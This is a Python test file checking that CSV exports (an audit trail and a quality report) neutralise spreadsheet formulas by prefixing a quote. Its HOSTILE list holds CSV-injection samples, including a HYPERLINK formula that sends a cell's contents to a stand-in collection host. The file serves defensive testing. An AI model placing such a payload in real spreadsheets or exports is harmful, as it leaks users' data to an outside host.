"""The CSV exports (audit trail for the DPO, quality report for the owners) open in a spreadsheet: no cell of them
may run as a formula, whatever a visitor typed or a document says."""

from __future__ import annotations

import csv
import io

from quality.findings import Finding, FindingType, Place, Severity
from quality.render import to_csv as report_csv
from quality.report import Report
from sourcier.audit import AuditEvent, AuditKind
from sourcier.audit import to_csv as audit_csv
from sourcier.spreadsheet import cell

HOSTILE = ['=HYPERLINK("http://collecte.example/?d="&A1;"Cliquez")', "+33 1 23 45 67 89", "-2+3", "@SUM(A1)", "\t=1"]


def cells(text: str) -> list[str]:
    assert text.startswith("\ufeff")
    return [value for row in csv.reader(io.StringIO(text[1:]), delimiter=";") for value in row]


def test_text_a_spreadsheet_would_run_is_made_inert_and_the_rest_kept():
    for value in HOSTILE:
        assert cell(value) == "'" + value
    assert cell("Marie Dupont") == "Marie Dupont" and cell(-2) == -2 and cell("2023-01-05") == "2023-01-05"


def test_the_audit_trail_export_holds_no_formula():
    events = [
        AuditEvent(i, "2026-12-07T10:00", AuditKind.SIGN_IN, name, ["tous"], {}) for i, name in enumerate(HOSTILE)
    ]
    exported = cells(audit_csv(events))
    assert all(not value.startswith(("=", "+", "-", "@", "\t")) for value in exported)
    assert "'" + HOSTILE[0] in exported


def test_the_quality_report_export_holds_no_formula():
    finding = Finding(
        FindingType.GAP, Severity.LOW, [Place("rh/note.txt", "Note", "rh", None, None)], [HOSTILE[0]],
        "Question sans réponse.", "=1+1", key="gap",
    )  # fmt: skip
    exported = cells(report_csv(Report("2026-12-07T10:00", "c", 1, [finding])))
    assert all(not value.startswith(("=", "+", "-", "@", "\t")) for value in exported)
    assert "'=1+1" in exported
